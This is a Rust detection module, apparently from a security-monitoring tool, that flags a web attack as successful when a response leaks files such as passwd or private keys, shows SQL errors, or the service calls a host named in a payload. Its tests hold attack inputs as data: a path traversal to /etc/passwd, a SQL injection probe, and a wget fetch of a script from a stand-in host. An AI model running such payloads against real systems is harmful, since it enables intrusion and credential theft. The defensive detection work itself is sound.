//! What says that an attack got through: a response that holds what was to be read, a database's error in it, a call
//! to a host that only an attacker has named. That somebody tried says nothing: of that the internet is full.

use foghorn_domain::event::Event;
use foghorn_domain::finding::{Evidence, Finding, Kind};
use foghorn_domain::severity::{Severity, Urgency};
use serde_json::Value;
use std::net::IpAddr;

/// The label of an incident in which an attack got through.
pub(super) const LABEL: &str = "attack_succeeded";

/// The rules' common name.
const RULE: &str = "attack.succeeded.";

/// Texts that stand in answers to attacks that worked, with the rule's name. What is leaked counts in an answer that is
/// no refusal; a database's error in any.
const LEAKS: &[(&str, &str)] = &[
    ("passwd", "root:x:0:0:"),
    ("passwd", "root:*:0:0:"),
    ("shadow", "root:$6$"),
    ("shadow", "root:$y$"),
    ("private_key", "-----BEGIN RSA PRIVATE KEY-----"),
    ("private_key", "-----BEGIN OPENSSH PRIVATE KEY-----"),
    ("private_key", "-----BEGIN PRIVATE KEY-----"),
    ("win_ini", "; for 16-bit app support"),
    ("command", "uid=0(root) gid=0(root)"),
    ("command", "(www-data) gid="),
    ("cloud_credentials", "\"SecretAccessKey\""),
];
const DATABASE_ERRORS: &[&str] = &[
    "you have an error in your sql syntax",
    "unclosed quotation mark after the character string",
    "quoted string not properly terminated",
    "unterminated quoted string at or near",
    "sqlstate[42",
    "syntax error at or near",
    "ora-00933",
    "ora-01756",
    "sqlite3.operationalerror",
    "microsoft ole db provider for sql server",
];

/// Bytes of an answer that are looked at.
const LOOKED_AT: usize = 64 * 1024;

/// What the event's answer says, for an attack of this kind.
pub(super) fn evidence(event: &Event, kind: Kind) -> Option<Evidence> {
    let (answer, at) = answer(event)?;
    let answer = &answer[..answer.floor_char_boundary(LOOKED_AT)];
    let was_refused = status(event).is_some_and(|status| status >= 300);
    let leaked = LEAKS.iter().find(|(_, text)| !was_refused && answer.contains(text));
    if let Some((what, text)) = leaked {
        return Some(Evidence::new(format!("{RULE}{what}"), text, at));
    }
    if !matches!(kind, Kind::Sqli | Kind::Nosql) {
        return None;
    }
    let lower = answer.to_ascii_lowercase();
    let error = DATABASE_ERRORS.iter().find(|error| lower.contains(**error))?;
    Some(Evidence::new(format!("{RULE}database_error"), error, at))
}

/// The finding that a service calls a host which a payload named.
pub(super) fn call_back(kind: Kind, host: &str) -> Finding {
    Finding { kind, score: 0.9, evidence: vec![Evidence::new(format!("{RULE}callback"), host, "payload")] }
}

/// Severity and urgency of an attack that got through, with the reason; `None` where nothing says that it did.
pub(super) fn raised(finding: &Finding) -> Option<(Severity, Urgency, String)> {
    let rule = finding.evidence.iter().find_map(|evidence| evidence.rule.strip_prefix(RULE))?;
    let why = match rule {
        "database_error" => "the answer holds a database's error: what was sent reached it".to_owned(),
        "callback" => "the service calls a host that only the attack has named".to_owned(),
        what => format!("the answer holds what the attack was after ({})", what.replace('_', " ")),
    };
    // That a payload reaches a database is bad by daylight; what is out is out now.
    let urgency = if rule == "database_error" { Urgency::Notify } else { Urgency::Page };
    Some((Severity::Critical, urgency, why))
}

/// The body of the answer, where the event has one, and where that stands.
fn answer(event: &Event) -> Option<(&str, &'static str)> {
    let field = |name: &str| event.metadata.get(name);
    let nested = || field("response")?.get("body")?.as_str();
    let named = ["response_body", "response", "resp_body"].into_iter().find_map(|name| field(name)?.as_str());
    let in_metadata = named.or_else(nested).map(|body| (body, "metadata.response"));
    in_metadata.or_else(|| event.payload.find("\nHTTP/1.").map(|start| (&event.payload[start..], "payload")))
}

fn status(event: &Event) -> Option<u64> {
    let number = |value: &Value| value.as_u64().or_else(|| value.as_str()?.parse().ok());
    let nested = || number(event.metadata.get("response")?.get("status")?);
    let names = ["status_code", "response_status", "http_status", "status"];
    let named = names.into_iter().find_map(|name| event.metadata.get(name).and_then(number)).or_else(nested);
    named.or_else(|| {
        let (_, answer) = event.payload.split_once("\nHTTP/1.")?;
        answer.get(2..5)?.parse().ok()
    })
}

/// Hosts that the matched texts of an attack would have a service call; its own client and private ones left out.
pub(super) fn hosts_named(findings: &[Finding], client: Option<&str>) -> Vec<String> {
    let texts = findings.iter().filter(|finding| finding.kind.is_attack()).flat_map(|finding| &finding.evidence);
    let mut hosts: Vec<String> = Vec::new();
    for evidence in texts {
        for rest in evidence.text.split("//").skip(1).take(8) {
            let end = rest.find(|sign: char| !(sign.is_ascii_alphanumeric() || matches!(sign, '.' | '-')));
            let host = rest[..end.unwrap_or(rest.len())].trim_matches('.').to_ascii_lowercase();
            let is_private = host.parse::<IpAddr>().is_ok_and(|address| match address {
                IpAddr::V4(v4) => v4.is_private() || v4.is_loopback() || v4.is_link_local() || v4.is_unspecified(),
                IpAddr::V6(_) => true,
            });
            let is_host = host.contains('.') && host.len() <= 100 && !is_private && Some(host.as_str()) != client;
            if is_host && !hosts.contains(&host) {
                hosts.push(host);
            }
        }
    }
    hosts
}

/// Whether the event is about a call that the service itself makes to a host: a field says where to, or the line does.
pub(super) fn calls(event: &Event, host: &str) -> bool {
    const FIELDS: [&str; 7] =
        ["destination", "destination_host", "dest_host", "dest_ip", "dst_ip", "dns_query", "query_name"];
    const WORDS: [&str; 6] = ["connect to ", "connected to ", "connecting to ", "outbound ", "resolve ", "lookup "];
    let is_host = |text: &str| {
        let name = text.trim().trim_end_matches('.').to_ascii_lowercase();
        name == host || name.strip_suffix(host).is_some_and(|front| front.ends_with('.'))
    };
    if FIELDS.into_iter().any(|field| event.metadata.get(field).and_then(Value::as_str).is_some_and(is_host)) {
        return true;
    }
    let line = event.payload[..event.payload.floor_char_boundary(4096)].to_ascii_lowercase();
    WORDS.into_iter().any(|word| {
        line.split_once(word).is_some_and(|(_, rest)| {
            let near = &rest[..rest.floor_char_boundary(160)];
            near.split(|sign: char| !(sign.is_ascii_alphanumeric() || matches!(sign, '.' | '-'))).any(is_host)
        })
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use foghorn_domain::clock::Timestamp;
    use foghorn_domain::event::Origin;
    use serde_json::{Map, json};

    fn event(payload: &str, metadata: Value) -> Event {
        let metadata: Map<String, Value> = metadata.as_object().cloned().unwrap_or_default();
        Event {
            id: 1,
            source: "shop".to_owned(),
            event_type: "http_request".to_owned(),
            payload: payload.to_owned(),
            metadata,
            status: None,
            dedup_key: None,
            episode: None,
            event_timestamp: None,
            severity: None,
            origin: Origin::Events,
            service: "shop".to_owned(),
            environment: "default".to_owned(),
            partition: 0,
            created_at: Timestamp::UNIX_EPOCH,
        }
    }

    #[test]
    fn an_answer_that_holds_what_was_asked_for_is_a_success_and_a_refusal_is_none() {
        let check = |payload: &str, metadata: Value, kind: Kind, expected: Option<&str>| {
            let found = evidence(&event(payload, metadata), kind);
            assert_eq!(found.as_ref().and_then(|one| one.rule.strip_prefix(RULE)), expected, "{payload}");
        };
        let passwd = "root:x:0:0:root:/root:/bin/bash";
        check(
            "GET /?f=../etc/passwd",
            json!({"status": 200, "response_body": passwd}),
            Kind::PathTraversal,
            Some("passwd"),
        );
        check("GET /", json!({"response": {"status": 200, "body": passwd}}), Kind::PathTraversal, Some("passwd"));
        check("GET /", json!({"status": 403, "response_body": passwd}), Kind::PathTraversal, None);
        check("GET /etc HTTP/1.1\n\nHTTP/1.1 200 OK\n\nuid=0(root) gid=0(root)", json!({}), Kind::Rce, Some("command"));
        check("GET /etc HTTP/1.1\n\nHTTP/1.1 404 No\n\nuid=0(root) gid=0(root)", json!({}), Kind::Rce, None);
        let error = json!({"status": 500, "response_body": "You have an error in your SQL syntax; check"});
        check("GET /?id=1'", error.clone(), Kind::Sqli, Some("database_error"));
        check("GET /?id=1'", error, Kind::Xss, None);
        check(&format!("GET /?q={passwd}"), json!({"status": 200}), Kind::PathTraversal, None);
    }

    #[test]
    fn what_is_out_pages_and_what_reached_the_database_does_not() {
        let found = |rule: &str| {
            let evidence =
                vec![Evidence::new("sqli.union", "x", "y"), Evidence::new(format!("{RULE}{rule}"), "x", "y")];
            raised(&Finding { kind: Kind::Sqli, score: 1.0, evidence })
                .map(|(severity, urgency, _)| (severity, urgency))
        };
        assert_eq!(found("passwd"), Some((Severity::Critical, Urgency::Page)));
        assert_eq!(found("callback"), Some((Severity::Critical, Urgency::Page)));
        assert_eq!(found("database_error"), Some((Severity::Critical, Urgency::Notify)));
        let tried = Finding { kind: Kind::Sqli, score: 1.0, evidence: vec![Evidence::new("sqli.union", "x", "y")] };
        assert!(raised(&tried).is_none());
    }

    #[test]
    fn a_host_that_a_payload_names_is_known_when_the_service_calls_it() {
        let finding = Finding {
            kind: Kind::Rce,
            score: 1.0,
            evidence: vec![Evidence::new(
                "rce.fetch",
                "wget http://Drop.Example.net/s.sh ldap://203.0.113.66/a http://10.0.0.1/",
                "x",
            )],
        };
        let hosts = hosts_named(&[finding], Some("203.0.113.66"));
        assert_eq!(hosts, ["drop.example.net"]);
        let check = |payload: &str, metadata: Value, expected: bool| {
            assert_eq!(calls(&event(payload, metadata), &hosts[0]), expected, "{payload}");
        };
        check("outbound connection opened: drop.example.net:80", json!({}), true);
        check("connecting to http://a1b2.drop.example.net/s.sh", json!({}), true);
        check("flow allowed", json!({"dns_query": "drop.example.net."}), true);
        check("GET /?x=wget http://drop.example.net/s.sh", json!({}), false);
        check("connected to notdrop.example.net", json!({}), false);
    }
}
